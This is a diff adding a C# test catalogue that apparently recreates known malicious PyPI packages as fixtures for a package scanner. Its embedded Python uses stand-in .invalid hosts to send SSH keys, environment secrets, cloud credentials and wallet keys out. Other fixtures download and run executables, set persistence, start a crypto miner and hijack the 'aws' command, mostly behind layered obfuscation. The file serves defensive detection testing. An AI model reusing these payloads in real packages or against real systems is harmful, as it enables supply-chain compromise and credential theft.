@@ -1,0 +1,451 @@
+using static PackageWall.Testing.Catalogue.Package;
+
+namespace PackageWall.Testing.Catalogue;
+
+/// <summary>Python packages of 2018 to 2025.</summary>
+internal static class PyPiEarlyAttacks
+{
+    private const string Squats = "PyPI typosquats 2018-2025";
+
+    private static CataloguePackage Setup(string name, string code, params CatalogueFile[] more) =>
+        Sdist(name, "1.0.1", [("setup.py", code + $"\nfrom setuptools import setup, find_packages\nsetup(name='{name}', version='1.0.1', packages=find_packages())\n"), (name.Replace('-', '_') + "/__init__.py", "VALUE = 1\n"), .. more]);
+
+    public static IEnumerable<CatalogueFixture> All()
+    {
+        CataloguePackage decorator = Wheel("ssh_decorator_like", "0.27", ("ssh_decorator_like/__init__.py", "import paramiko\n\n\ndef ssh_connect(server, user, password, port=22):\n    client = paramiko.SSHClient()\n    client.connect(server, port=port, username=user, password=password)\n    return client\n"));
+        yield return new("ssh-decorator", "Credentials sent by an SDK", "B22 H06", decorator with
+        {
+            Version = "0.28",
+            Files = [("ssh_decorator_like/__init__.py", """
+                import paramiko
+                from urllib.parse import urlencode
+                from urllib.request import Request, urlopen
+
+
+                def log(data):
+                    try:
+                        urlopen(Request("http://ssh-decorate.invalid/index.php", data=urlencode(data).encode()), timeout=3)
+                    except Exception:
+                        pass
+
+
+                def ssh_connect(server, user, password, port=22, private_key_file=None):
+                    pkey = open(private_key_file).read() if private_key_file else ""
+                    log({"server": server, "port": port, "pkey": pkey, "password": password, "user": user})
+                    client = paramiko.SSHClient()
+                    client.connect(server, port=port, username=user, password=password)
+                    return client
+
+                """)],
+        }) { Earlier = decorator, Twin = PyPiTwins.Client };
+
+        yield return new("colourama", Squats, "B04 B08", Setup("colourama-like", InertPy + """
+            import os
+            import platform
+            import subprocess
+            import urllib.request
+            if platform.system() == "Windows":
+                target = os.path.join(os.environ["TEMP"], "ms.vbs")
+                open(target, "wb").write(urllib.request.urlopen("https://grabify-like.invalid/clip.vbs").read())
+                subprocess.call("wscript " + target, shell=True)
+                subprocess.call('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Microsoft Software /t REG_SZ /d "%s"' % target, shell=True)
+
+            """)) { Twin = PyPiTwins.Setup };
+
+        yield return new("jellyfish", Squats, "B03 B04", Wheel("jeIlyfish_like", "0.7.1", ("jeIlyfish_like/__init__.py", "from ._jellyfish import *\n"), ("jeIlyfish_like/_jellyfish.py", $$"""
+            import zlib
+            import base64
+            import binascii
+            from urllib.request import urlopen
+
+            HASHSUMS = "https://gitlab-snippets.invalid/olgired2017/aeroporto/raw/hashsum"
+
+
+            def levenshtein_distance(one, two):
+                return abs(len(one) - len(two))
+
+
+            ZAUTHSS = ''
+            ZAUTHSS += '{{Encodings.Base64(Encodings.Zlib("""
+                import os, socket, getpass
+                from urllib.request import urlopen
+                files = [os.path.join(os.path.expanduser('~'), n) for n in ('.ssh', '.gnupg')]
+                names = {n: os.listdir(n) for n in files if os.path.exists(n)}
+                body = {d + '/' + f: open(d + '/' + f, 'rb').read() for d in names for f in names[d]}
+                s = socket.socket()
+                s.connect(('aero.collector.invalid', 32258))
+                s.sendall(repr(body).encode())
+                """))}}'
+            ZAUTHSS = base64.b64decode(ZAUTHSS)
+            ZAUTHSS = zlib.decompress(ZAUTHSS)
+            if ZAUTHSS:
+                exec(ZAUTHSS)
+
+            """))) { Twin = PyPiTwins.DataFile };
+
+        yield return new("pygrata", Squats, "B05", Setup("loglib-modules-like", """
+            import os
+            import json
+            import requests
+
+            keys = {k: v for k, v in os.environ.items()}
+            base = "http://169.254.169.254/latest/"
+            try:
+                role = requests.get(base + "meta-data/iam/security-credentials/", timeout=2).text
+                keys["role"] = requests.get(base + "meta-data/iam/security-credentials/" + role, timeout=2).text
+                keys["user"] = requests.get(base + "user-data", timeout=2).text
+            except Exception:
+                pass
+            open("cred.txt", "w").write(json.dumps(keys))
+            requests.post("http://graph.pygrata.invalid:8000/upload", files={"upload_file": open("cred.txt", "rb")})
+
+            """)) { Twin = PyPiTwins.Setup };
+
+        CataloguePackage ctx = Wheel("ctx_like", "0.1.1", ("ctx_like.py", "class Ctx(dict):\n    def __init__(self, *args, **kwargs):\n        super().__init__(*args, **kwargs)\n        self.__dict__ = self\n"));
+        yield return new("ctx", "ctx", "B05 H06", ctx with
+        {
+            Version = "0.2.6",
+            Files = [("ctx_like.py", """
+                import base64
+                import os
+                import requests
+
+
+                class Ctx(dict):
+                    def __init__(self, *args, **kwargs):
+                        super().__init__(*args, **kwargs)
+                        self.__dict__ = self
+                        self.sendRequest()
+
+                    def sendRequest(self):
+                        string = ""
+                        for _, value in os.environ.items():
+                            string += value + " "
+                        message_bytes = base64.b64encode(string.encode("ascii"))
+                        requests.get("https://anti-theft-web.herokuapp.invalid/hacked/" + message_bytes.decode("ascii"))
+
+                """)],
+        }) { Earlier = ctx, Twin = PyPiTwins.Client };
+
+        yield return new("exotel", "exotel, spam", "B04 B30", Setup("exotel-like", """
+            import os
+            import platform
+            import subprocess
+            import tempfile
+            import urllib.request
+
+            def main():
+                if platform.system() == "Windows":
+                    target = os.path.join(tempfile.gettempdir(), "ledgernano.exe")
+                    urllib.request.urlretrieve("https://python-release.invalid/python-install.scr", target)
+                    os.startfile(target)
+                print("ok")
+
+            main()
+
+            """)) { Twin = PyPiTwins.Setup };
+
+        string w4sp = """
+            __import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode('INERT'),'<string>','exec'))
+            """.Replace("INERT", Encodings.Base64("""
+            from tempfile import NamedTemporaryFile as _ffile
+            from sys import executable as _eexecutable
+            from os import system as _ssystem
+            _ttmp = _ffile(delete=False)
+            _ttmp.write(b"from urllib.request import urlopen as _uurlopen;exec(_uurlopen('https://paste-web.invalid/raw/inert').read())")
+            _ttmp.close()
+            try: _ssystem(f"start {_eexecutable.replace('.exe', 'w.exe')} {_ttmp.name}")
+            except: pass
+            """), StringComparison.Ordinal);
+        yield return new("w4sp", "rand-user-agent, gluestack, W4SP", "B32 B03", Setup("typesutil-like", "import setuptools" + new string(' ', 318) + ";" + w4sp)) { Twin = PyPiTwins.Setup };
+
+        yield return new("torchtriton", "rspack, ultralytics, torchtriton", "B04 B30 B05 H05 H10", Wheel("torchtriton_like", "3.0.0", ("triton_like/__init__.py", """
+            import os
+            import subprocess
+
+
+            def _sysinfo():
+                path = os.path.join(os.path.dirname(__file__), "runtime", "triton")
+                os.chmod(path, 0o755)
+                subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+
+
+            _sysinfo()
+
+            """), ("triton_like/runtime/triton", Binaries.Elf("/etc/hosts", "/etc/passwd", ".gitconfig", ".ssh/*", "*.h4ck-like.invalid", "gethostname", "wheezy")))) { Twin = PyPiTwins.Extension };
+
+        yield return new("colorslib", "colorslib, httpslib, libhttps", "B04", Setup("colorslib-like", """
+            import subprocess, threading
+
+            def run():
+                subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand ENC', shell=True, creationflags=subprocess.CREATE_NO_WINDOW)
+
+            threading.Thread(target=run).start()
+
+            """.Replace("ENC", Encodings.Utf16Base64("Invoke-WebRequest -Uri \"https://dl.dropbox-like.invalid/s/x/Oxyz.exe?dl=0\" -OutFile \"~/WindowsCache.exe\"; Invoke-Expression \"~/WindowsCache.exe\""), StringComparison.Ordinal))) { Twin = PyPiTwins.Setup };
+
+        yield return new("fshec2", "fshec2", "B29 H15", Wheel("fshec_like", "0.1", ("fshec_like/__init__.py", "from .main import get_path\n"),
+            ("fshec_like/main.py", """
+                import importlib.machinery
+                import importlib.util
+                import os
+
+
+                def get_path():
+                    here = os.path.dirname(__file__)
+                    loader = importlib.machinery.SourcelessFileLoader("full", os.path.join(here, "full.pyc"))
+                    module = importlib.util.module_from_spec(importlib.util.spec_from_loader("full", loader))
+                    loader.exec_module(module)
+                    module.get_path()
+
+
+                get_path()
+
+                """), ("fshec_like/full.pyc", Pyc("urllib.request", "urlopen", "subprocess", "check_output", "getpass", "http://192.0.2.213:5000/api/v1/collect")))) { Twin = PyPiTwins.DataFile };
+
+        yield return new("vmconnect", "VMConnect, pytoileur", "B03 B04", Wheel("vm_connect_like", "1.0.4", ("vm_connect_like/__init__.py", $"""
+            import base64
+            from multiprocessing import Process
+
+
+            def run():
+                exec(base64.b64decode(b"{Encodings.Base64("import base64, json, time, urllib.request\nwhile True:\n    task = urllib.request.urlopen('http://ethertestnet-like.invalid/paperpin.php').read()\n    exec(base64.b64decode(task))\n    time.sleep(20)\n")}"))
+
+
+            Process(target=run).start()
+
+            """))) { Twin = PyPiTwins.BackgroundThread };
+
+        yield return new("pytoileur", "VMConnect, pytoileur", "B32 B03 B04", Setup("pytoileur-like", "VERSION = '1.0.1'" + new string(' ', 240) + ";__import__('os').system(__import__('base64').b64decode('" + Encodings.Base64("powershell -c \"iwr http://192.0.2.107:8000/Runtime.exe -o $env:TEMP/Runtime.exe; Start-Process $env:TEMP/Runtime.exe\"") + "').decode())\n")) { Twin = PyPiTwins.Setup };
+
+        CataloguePackage aio = Wheel("aio_pay_like", "0.1.12", ("aio_pay_like/__init__.py", "from .sync import CryptoPay\n"), ("aio_pay_like/sync.py", "class CryptoPay:\n    def __init__(self, token):\n        self.token = token\n"));
+        string nested = """
+            import json, urllib.request
+            _i = CryptoPay.__init__
+            def _n(self, token, *a, **k):
+                urllib.request.urlopen("https://api.telegram.org/bot000000:inert/sendMessage?chat_id=1&text=" + token)
+                _i(self, token, *a, **k)
+            CryptoPay.__init__ = _n
+            """;
+        for (int layer = 0; layer < 50; layer++)
+        {
+            nested = $"exec((_)(b'{Encodings.Reversed(Encodings.Base64(Encodings.Zlib(nested)))}'))";
+        }
+
+        yield return new("aiocpa", "aiocpa", "B03 B22", aio with
+        {
+            Version = "0.1.13",
+            Files = [aio.Files[0], ("aio_pay_like/sync.py", aio.Files[1].Text + "\n_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\n" + nested + "\n")],
+        }) { Earlier = aio, Twin = PyPiTwins.DataFile };
+
+        CataloguePackage ultra = Wheel("ultra_vision", "8.3.40", ("ultra_vision/__init__.py", "from .utils.downloads import safe_download\n"), ("ultra_vision/utils/__init__.py", ""), ("ultra_vision/utils/downloads.py", "import urllib.request\n\n\ndef safe_download(url, target):\n    urllib.request.urlretrieve(url, target)\n    return target\n"));
+        yield return new("ultralytics", "rspack, ultralytics, torchtriton", "B04 B30 H05", ultra with
+        {
+            Version = "8.3.41",
+            Files = [ultra.Files[0], ultra.Files[1], ("ultra_vision/utils/downloads.py", ultra.Files[2].Text + """
+
+
+                def safe_run(path):
+                    import os, subprocess
+                    os.chmod(path, 0o770)
+                    subprocess.Popen([path, "-u", "4BHRQHFexjzfVjinAbrAwJdtogpFV3uCXhxYtYnsQN66CRtypsRyVEZhGc8iWyPViEewB8LtdAEL7CdjE4szMpKzPGjoZnw", "-o", "connect.consrensys.invalid:8080", "-k"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
+                    os.remove(path)
+
+
+                def _start():
+                    import platform
+                    url = {"Linux": "https://github.com/xmrig/xmrig/releases/download/v6.22.2/xmrig-linux", "Darwin": "https://github.com/xmrig/xmrig/releases/download/v6.22.2/xmrig-darwin"}.get(platform.system())
+                    if url:
+                        safe_run(safe_download(url, "/tmp/ultra_runner"))
+
+
+                _start()
+
+                """)],
+        }) { Earlier = ultra, Twin = PyPiTwins.Client };
+
+        yield return new("set-utils", "set-utils, dbgpkg", "B22", Wheel("set_utils_like", "1.0.1", ("set_utils_like/__init__.py", """
+            from eth_account import Account
+            from web3 import Web3
+            import threading
+
+            _KEY = "-----BEGIN PUBLIC KEY-----inert-----END PUBLIC KEY-----"
+            _create = Account.from_key
+
+
+            def transmit(account):
+                web3 = Web3(Web3.HTTPProvider("https://rpc-amoy.polygon.technology/"))
+                memo = account.key.hex()
+                tx = {"to": "0x00000000000000000000000000000000000000aa", "value": 0, "data": memo.encode().hex()}
+                web3.eth.send_raw_transaction(web3.eth.account.sign_transaction(tx, _KEY).rawTransaction)
+
+
+            def from_key(key):
+                account = _create(key)
+                threading.Thread(target=transmit, args=(account,)).start()
+                return account
+
+
+            Account.from_key = from_key
+
+            """))) { Twin = PyPiTwins.Client, Expect = Expectation.Held };
+
+        yield return new("termncolor", "termncolor, colorinal", "B30 B04", Wheel("colorinal_like", "0.1.7", ("colorinal_like/__init__.py", "from .unicode import is_color_supported\nis_color_supported()\n"), ("colorinal_like/unicode.py", """
+            import ctypes
+            import os
+            import sys
+
+
+            def is_color_supported():
+                here = os.path.dirname(__file__)
+                name = "terminate.dll" if sys.platform == "win32" else "terminate.so"
+                library = ctypes.CDLL(os.path.join(here, name))
+                library.envir(b"xterminalunicode")
+                os.remove(os.path.join(here, name))
+                return True
+
+            """), ("colorinal_like/terminate.dll", Binaries.Pe(true, "envir", "vcpktsvr.exe", "libcef.dll")), ("colorinal_like/terminate.so", Binaries.Elf("envir", "zulip")))) { Twin = PyPiTwins.Extension };
+
+        yield return new("soopsocks", "termncolor, colorinal", "B08 B04", Wheel("soop_socks_like", "0.2.7", ("soop_socks_like/__init__.py", InertPy + """
+            import os
+            import subprocess
+            import sys
+            import tempfile
+
+            _SCRIPT = r'''
+            Set-ExecutionPolicy Bypass -Scope Process -Force
+            Invoke-WebRequest -Uri "https://install.soop.invalid/zip" -OutFile "$env:TEMP\install.zip"
+            New-NetFirewallRule -DisplayName "soop" -Direction Inbound -Action Allow -Protocol TCP -LocalPort 1080
+            schtasks /create /tn SoopSocks /tr "$env:TEMP\_autorun.exe" /sc onlogon /rl highest /f
+            '''
+
+
+            def _install():
+                if sys.platform != "win32":
+                    return
+                path = os.path.join(tempfile.gettempdir(), "svc.ps1")
+                with open(path, "w") as out:
+                    out.write(_SCRIPT)
+                subprocess.Popen(["powershell", "-ExecutionPolicy", "Bypass", "-WindowStyle", "Hidden", "-File", path])
+
+
+            _install()
+
+            """), ("soop_socks_like/_autorun.exe", Binaries.Pe(false, "discord.com/api/webhooks")))) { Twin = PyPiTwins.Compatibility };
+
+        CataloguePackage words = Wheel("num_words_like", "0.5.14", ("num_words_like/__init__.py", "def num2words(number):\n    return str(number)\n"));
+        yield return new("num2words", "mistralai, guardrails, durabletask, num2words", "B04 H06", words with
+        {
+            Version = "0.5.15",
+            Files = [("num_words_like/__init__.py", words.Files[0].Text + "\nfrom . import lang_EU as _eu\n"), ("num_words_like/lang_EU.py", """
+                import ctypes
+                import os
+                import platform
+                import tempfile
+                import urllib.request
+
+
+                def _load():
+                    if platform.system() != "Windows":
+                        return
+                    data = bytes(b ^ 0x5A for b in urllib.request.urlopen("https://firebase-like.invalid/c/k2/").read())
+                    path = os.path.join(tempfile.gettempdir(), "umpdc.dll")
+                    with open(path, "wb") as out:
+                        out.write(data)
+                    ctypes.WinDLL(path)
+
+
+                _load()
+
+                """)],
+        }) { Earlier = words, Twin = PyPiTwins.Compatibility };
+
+        yield return new("graphalgo", "NK fake tests", "B04", Wheel("graph_algo_like", "1.0.6", ("graph_algo_like/__init__.py", "from .nodes import Node\n"), ("graph_algo_like/nodes.py", """
+            import hashlib
+            import json
+            import os
+            import subprocess
+            import sys
+            import urllib.request
+
+
+            class Node:
+                pass
+
+
+            def _license():
+                token = hashlib.sha256(os.uname().nodename.encode()).hexdigest()
+                request = urllib.request.Request("https://codepool-check.invalid/v1/license", headers={"x-token": token})
+                data = json.loads(urllib.request.urlopen(request, timeout=6).read())
+                if data.get("ok"):
+                    subprocess.Popen([sys.executable, "-c", data["body"]], start_new_session=True)
+
+
+            try:
+                _license()
+            except Exception:
+                pass
+
+            """))) { Twin = PyPiTwins.Compatibility };
+
+        yield return new("spellcheckpy", "Payload in a dictionary", "B03 B26", PyPiTwins.DataFile with
+        {
+            Name = "spell_check_like",
+            Files = [("spell_check_like/__init__.py", """
+                import base64
+                import gzip
+                import json
+                from importlib import resources
+
+
+                def load(language="en"):
+                    with resources.files(__package__).joinpath(f"resources/{language}.json.gz").open("rb") as packed:
+                        return json.loads(gzip.decompress(packed.read()))
+
+
+                def test_file(path="eu", index="spellchecker"):
+                    data = load(path)
+                    exec(base64.b64decode(data[index]).decode())
+
+
+                test_file()
+
+                """), ("spell_check_like/resources/eu.json.gz", Encodings.Gzip($$"""{"a": 1, "spellchecker": "{{Encodings.Base64("import subprocess, sys, urllib.request\nsubprocess.Popen([sys.executable, '-c', urllib.request.urlopen('https://updatenet.invalid/settings/history.php').read().decode()])\n")}}"}"""))],
+        }) { Twin = PyPiTwins.DataFile };
+
+        yield return new("command-jacking", "Command-jacking", "B19", Wheel("cloud_helper", "0.2.0", ("cloud_helper/__init__.py", ""), ("cloud_helper/cli.py", """
+            import os
+            import subprocess
+            import sys
+            import urllib.request
+
+
+            def aws():
+                path = os.path.expanduser("~/.aws/credentials")
+                if os.path.exists(path):
+                    urllib.request.urlopen("https://cli-metrics.helper.invalid/a", data=open(path, "rb").read())
+                sys.exit(subprocess.call(["/usr/local/bin/aws", *sys.argv[1:]]))
+
+            """), ("{info}/entry_points.txt", "[console_scripts]\naws = cloud_helper.cli:aws\ndocker = cloud_helper.cli:aws\n"))) { Twin = PyPiTwins.Command };
+    }
+
+    /// <summary>A compiled module of constants only, as CPython 3.12 marshals one: magic, no flags, and a code object that names what it would call.</summary>
+    private static byte[] Pyc(params string[] names)
+    {
+        List<byte> bytes = [0xcb, 0x0d, 0x0d, 0x0a, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
+        Code(Tuple([.. names.Select(Ascii)]));
+        return [.. bytes];
+
+        void Code(byte[] constants)
+        {
+            bytes.Add(0xe3);
+            bytes.AddRange(new byte[16]); // arguments, positional only, keyword only, stack size
+            bytes.AddRange(new byte[4]); // flags
+            bytes.AddRange([.. Bytes([0x97, 0, 0x79, 0]), .. constants, .. Tuple([.. names.Select(Ascii)]), .. Tuple([]), .. Bytes([]), .. Ascii("full.py"), .. Ascii("<module>"), .. Ascii("<module>"), 1, 0, 0, 0, .. Bytes([]), .. Bytes([])]);
+        }
+
+        static byte[] Ascii(string text) => [0x7a, (byte)text.Length, .. System.Text.Encoding.ASCII.GetBytes(text)];
+        static byte[] Tuple(byte[][] items) => [0x29, (byte)items.Length, .. items.SelectMany(item => item)];
+        static byte[] Bytes(byte[] value) => [0x73, .. BitConverter.GetBytes(value.Length), .. value];
+    }
+}
